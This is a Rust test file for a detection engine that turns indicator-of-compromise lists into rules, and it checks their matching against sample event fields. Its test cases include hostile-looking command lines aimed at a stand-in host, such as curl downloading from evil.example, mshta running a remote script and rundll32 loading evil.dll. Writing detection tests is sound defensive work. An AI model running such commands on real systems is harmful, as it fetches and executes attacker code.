//! Tests of rules about indicators: that they find what a plain comparison with each indicator finds.

use super::fields::FIELDS;
use super::indicator::HashAlgorithm;
use super::paths::{last_part, without_stream};
use super::tables::{FieldReading, IndicatorTables};
use super::texts::{HostPiece, each_host, each_path, each_url};
use super::told::{ValueType, observables};
use super::*;
use crate::base::wildcard::{CaseSensitivity, Wildcard};
use crate::ecs::Field;
use crate::eql::Query;
use crate::event::{Document, Value};
use proptest::prelude::*;
use std::net::IpAddr;
use std::sync::Arc;

fn indicator(text: &str, observables: Vec<Observable>, line: usize) -> Indicator {
    Indicator { observables, text: text.to_owned(), level: None, note: None, list: Arc::from("list"), line }
}

/// The indicators of some lines, as a plain list gives them.
fn told(lines: &[&str]) -> Vec<Indicator> {
    let of = |(at, text): (usize, &&str)| {
        let found = observables(ValueType::Unsaid, text).unwrap_or_else(|reason| panic!("{text}: {reason}"));
        found.into_iter().map(move |one| indicator(text, vec![one], at + 1)).collect::<Vec<_>>()
    };
    lines.iter().enumerate().flat_map(of).collect()
}

fn event(pairs: &[(&str, &str)]) -> Document {
    let value = |name: &str, text: &str| {
        let field = Field::named(name);
        let value = match field.kind() {
            Some(crate::ecs::FieldType::Ip) => crate::event::IpValue::parse(text).map(Value::Ip),
            _ => None,
        };
        (field, value.unwrap_or_else(|| text.into()))
    };
    Document::from_pairs(pairs.iter().map(|(name, text)| value(name, text)).collect())
}

/// The names of the rules that find an event, each with the indicators and fields.
fn found(lines: &[&str], pairs: &[(&str, &str)]) -> Vec<String> {
    let event = event(pairs);
    let mut all = Vec::new();
    for rule in rules(told(lines), false) {
        let Query::Event(query) = &rule.query else { panic!("no query for single events") };
        let ioc = rule.origin.ioc.as_ref().unwrap();
        let sightings = ioc.sightings(&event);
        assert_eq!(query.matches(&event), !sightings.is_empty(), "{}: condition and sightings differ", rule.meta.id);
        all.extend(
            sightings.iter().map(|one| format!("{}: {} in {}", rule.meta.id, one.indicator.text, one.field.name())),
        );
    }
    all
}

#[test]
fn each_kind_is_found_where_it_can_be() {
    const SHA256: &str = "AB0000000000000000000000000000000000000000000000000000000000000F";
    let cases: &[(&str, (&str, &str), &str)] = &[
        (SHA256, ("process.hash.sha256", &SHA256.to_lowercase()), "ioc-hash"),
        (SHA256, ("dll.hash.sha256", SHA256), "ioc-hash"),
        (&SHA256[..32], ("process.pe.imphash", &SHA256[..32]), "ioc-hash"),
        (&SHA256[..32], ("file.hash.md5", &SHA256[..32]), "ioc-hash"),
        ("192.0.2.7", ("destination.ip", "192.0.2.7"), "ioc-address"),
        ("192.0.2.0/24", ("source.ip", "192.0.2.200"), "ioc-address"),
        ("192.0.2.5-192.0.2.9", ("dns.resolved_ip", "192.0.2.9"), "ioc-address"),
        ("2001:db8::/32", ("destination.ip", "2001:db8:1::5"), "ioc-address"),
        ("192.0.2.7", ("destination.ip", "::ffff:192.0.2.7"), "ioc-address"),
        ("192.0.2.7", ("process.command_line", "ping -n 1 192.0.2.7"), "ioc-address"),
        ("evil.example", ("dns.question.name", "a.b.EVIL.example"), "ioc-domain"),
        ("evil.example", ("dns.answers.data", "evil.example."), "ioc-domain"),
        ("evil.example", ("process.command_line", r"net use \\evil.example\share"), "ioc-domain"),
        ("evil.example", ("process.command_line", "curl -o x https://x.evil.example:8443/a"), "ioc-domain"),
        ("https://evil.example/a", ("process.command_line", "mshta HTTP://Evil.example:80/a?x"), "ioc-url"),
        (
            "evil.example/a",
            ("winlog.event_data.Contents", "[ZoneTransfer] HostUrl=https://evil.example/a/b"),
            "ioc-url",
        ),
        ("https://evil.example/a", ("dns.question.name", "evil.example"), "ioc-url-host"),
        ("https://192.0.2.7/a", ("destination.ip", "192.0.2.7"), "ioc-url-host"),
        ("evil.exe", ("process.executable", r"C:\Users\a\EVIL.exe"), "ioc-file-name"),
        ("evil.exe", ("file.path", r"C:\x\Evil.exe:Zone.Identifier"), "ioc-file-name"),
        (r"C:\x\evil.exe", ("file.path", r"C:\x\Evil.exe:Zone.Identifier"), "ioc-path"),
        ("evil.exe", ("process.pe.original_file_name", "Evil.exe"), "ioc-file-name"),
        ("evil*.exe", ("file.path", r"C:\x\evil-1.exe"), "ioc-file-name"),
        ("evil.dll", ("process.command_line", r#"rundll32 "C:\a b\evil.dll",Start"#), "ioc-file-name"),
        (r"C:\Temp\evil.exe", ("winlog.event_data.TargetImage", r"c:\temp\EVIL.EXE"), "ioc-path"),
        (r"%APPDATA%\evil.exe", ("file.path", r"D:\Users\a\AppData\Roaming\evil.exe"), "ioc-path"),
        (r"\Temp\evil.exe", ("dll.path", r"C:\Windows\Temp\evil.exe"), "ioc-path"),
        (r"C:\evil\", ("process.working_directory", r"C:\evil\"), "ioc-path"),
        (r"C:\evil\*\x.exe", ("process.parent.executable", r"C:\evil\7\x.exe"), "ioc-path"),
        (r"C:\Program Files\Evil\e.exe", ("registry.data.strings", r"C:\Program Files\Evil\e.exe -run"), "ioc-path"),
        ("/tmp/evil", ("process.executable", "/tmp/evil"), "ioc-path"),
    ];
    for (line, (field, value), rule) in cases {
        assert_eq!(
            found(&[line], &[(field, value)]),
            [format!("{rule}: {line} in {field}")],
            "{line} in {field}: {value}"
        );
    }
}

#[test]
fn what_is_only_like_an_indicator_is_not_found() {
    let cases: &[(&str, (&str, &str))] = &[
        ("evil.example", ("dns.question.name", "notevil.example")),
        ("evil.example", ("dns.question.name", "evil.example.org")),
        ("evil.example", ("process.command_line", r"C:\dir\evil.example")),
        ("192.0.2.7", ("destination.ip", "192.0.2.70")),
        ("192.0.2.7", ("process.command_line", "ping 192.0.2.77")),
        ("192.0.2.0/24", ("destination.ip", "192.0.3.1")),
        ("https://evil.example/a", ("process.command_line", "curl https://evil.example/ab")),
        ("https://evil.example/a", ("process.command_line", "curl https://evil.example:8080/a")),
        ("evil.exe", ("process.executable", r"C:\notevil.exe")),
        ("evil.exe", ("process.command_line", "notepad evil.exe.txt")),
        (r"C:\Temp\evil.exe", ("file.path", r"C:\Temp\sub\evil.exe")),
        (r"\Temp\evil.exe", ("file.path", r"C:\NotTemp\evil.exe")),
        ("d41d8cd98f00b204e9800998ecf8427f", ("file.hash.sha1", "d41d8cd98f00b204e9800998ecf8427f")),
    ];
    for (line, (field, value)) in cases {
        let found: Vec<String> =
            found(&[line], &[(field, value)]).into_iter().filter(|one| !one.starts_with("ioc-url-host")).collect();
        assert!(found.is_empty(), "{line} in {field}: {value}: {found:?}");
    }
}

#[test]
fn parts_that_belong_together_must_be_in_one_event() {
    let parts = vec![Observable::FileName("a.exe".to_owned()), Observable::Domain("evil.example".to_owned())];
    let rules = rules(vec![indicator("both", parts, 1)], false);
    let holds = |pairs: &[(&str, &str)]| {
        let event = event(pairs);
        rules.iter().any(|rule| {
            let Query::Event(query) = &rule.query else { return false };
            let sightings = rule.origin.ioc.as_ref().unwrap().sightings(&event);
            assert_eq!(query.matches(&event), !sightings.is_empty());
            query.matches(&event)
        })
    };
    assert!(holds(&[("process.executable", r"C:\a.exe"), ("dns.question.name", "evil.example")]));
    assert!(!holds(&[("process.executable", r"C:\b.exe"), ("dns.question.name", "evil.example")]));
    assert!(!holds(&[("process.executable", r"C:\a.exe")]));
}

#[test]
fn a_list_may_say_how_severe_its_hits_are() {
    let mut all = told(&["evil.example", "other.example"]);
    all[0].level = Some(crate::rules::Level::Critical);
    let rules = rules(all, false);
    let ids: Vec<_> = rules.iter().map(|rule| (&*rule.meta.id, rule.meta.level.name())).collect();
    assert_eq!(ids, [("ioc-domain", "high"), ("ioc-domain-critical", "critical")]);
}

#[test]
fn the_page_has_the_same_fields() {
    let page = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/ioc.md")).unwrap();
    let rows: Vec<&str> = page.lines().filter(|line| line.starts_with("| `")).collect();
    for (name, _) in FIELDS {
        assert!(rows.iter().any(|row| row.contains(&format!("`{name}`"))), "docs/ioc.md lacks {name}");
    }
    let named: usize = rows.iter().map(|row| row.split('|').nth(1).unwrap().matches('`').count() / 2).sum();
    assert_eq!(named, FIELDS.len(), "docs/ioc.md has fields that are not looked at");
}

/// Whether a value has an indicator, told without tables: one comparison for each way it can be met.
fn naive(observable: &Observable, reading: FieldReading, text: &str) -> bool {
    let fits = |pattern: &str, text: &str| Wildcard::new(pattern, CaseSensitivity::Insensitive).matches(text);
    let is_below = |name: &str, domain: &str| {
        let name = name.trim_end_matches('.').to_lowercase();
        name == domain || name.ends_with(&format!(".{domain}"))
    };
    let is_address = |address: IpAddr| match observable {
        Observable::Networks(blocks) => blocks.iter().any(|block| block.contains(&address)),
        _ => false,
    };
    let is_file = |text: &str, with_path: bool| match observable {
        Observable::FileName(name) => fits(name, last_part(text)),
        Observable::Path(path) => with_path && fits(path, text),
        _ => false,
    };
    let is_name = |name: &str| matches!(observable, Observable::Domain(domain) if is_below(name, domain));
    match reading {
        FieldReading::Hash(algorithm) => match observable {
            Observable::Hash(given, digits) => {
                given.is_none_or(|given| given == algorithm)
                    && digits.len() == algorithm.digits()
                    && digits.eq_ignore_ascii_case(text)
            }
            _ => false,
        },
        FieldReading::Address => text.parse().is_ok_and(is_address),
        FieldReading::Domain => is_name(text),
        FieldReading::Path => is_file(text, true) || without_stream(text).is_some_and(|file| is_file(file, true)),
        FieldReading::FileName => is_file(text, false) || without_stream(text).is_some_and(|file| is_file(file, false)),
        FieldReading::Folder => matches!(observable, Observable::Path(path) if fits(path, text)),
        FieldReading::Text => {
            let mut has = false;
            each_host(text, |piece| {
                has |= match piece {
                    HostPiece::Address(address) => is_address(address),
                    HostPiece::Name(name) => is_name(name),
                };
            });
            each_url(text, |piece| {
                let key = url::key(piece);
                has |= matches!((observable, key), (Observable::Url(wanted), Some(key)) if url::fits(wanted, &key));
            });
            each_path(text, |piece| has |= is_file(piece, true));
            has
        }
    }
}

const READINGS: [FieldReading; 8] = [
    FieldReading::Hash(HashAlgorithm::Md5),
    FieldReading::Hash(HashAlgorithm::Imphash),
    FieldReading::Address,
    FieldReading::Domain,
    FieldReading::Path,
    FieldReading::FileName,
    FieldReading::Folder,
    FieldReading::Text,
];

/// Texts of few letters, so that indicators and values meet.
fn piece() -> impl Strategy<Value = String> {
    let name = "[ab]{1,2}(\\.[ab]{1,2}){0,2}\\.(com|exe|zip)";
    let path = "C:\\\\([abA]{1,2}\\\\){0,2}[ab*?]{1,2}\\.(exe|dll|e\\*)";
    let url = "(https?://)?[ab]\\.com(:80|:81)?(/[ab]){1,3}(\\?[ab])?";
    let address = "10\\.[01]\\.0\\.[0-3](/(31|24|8))?";
    let hash = "[01][aA]{31}";
    let relative = "[\\\\]?[ab]\\\\[ab]\\.exe";
    prop_oneof![
        name.prop_map(String::from),
        path.prop_map(String::from),
        url.prop_map(String::from),
        address.prop_map(String::from),
        hash.prop_map(String::from),
        relative.prop_map(String::from),
    ]
}

fn text() -> impl Strategy<Value = String> {
    proptest::collection::vec((piece(), "[ \"',;=(|]|/i:|://|\\\\\\\\| K\u{212a}é"), 1..4)
        .prop_map(|parts| parts.into_iter().map(|(piece, sign)| piece + &sign).collect())
}

proptest! {
    #[test]
    fn tables_find_what_comparisons_find(lines in proptest::collection::vec(piece(), 1..30), values in proptest::collection::vec(prop_oneof![piece(), text()], 1..20)) {
        let observables: Vec<Observable> =
            lines.iter().filter_map(|line| observables(ValueType::Unsaid, line).ok()).flatten().collect();
        let tables = IndicatorTables::new(observables.iter().zip(0..));
        for value in &values {
            for reading in READINGS {
                let mut found = Vec::new();
                tables.find(reading, value, &mut |number| found.push(number));
                found.sort_unstable();
                found.dedup();
                let expected: Vec<u32> =
                    observables.iter().zip(0..).filter(|(one, _)| naive(one, reading, value)).map(|(_, at)| at).collect();
                prop_assert_eq!(&found, &expected, "{:?} of {} among {:?}", reading, value, &observables);
            }
        }
    }
}
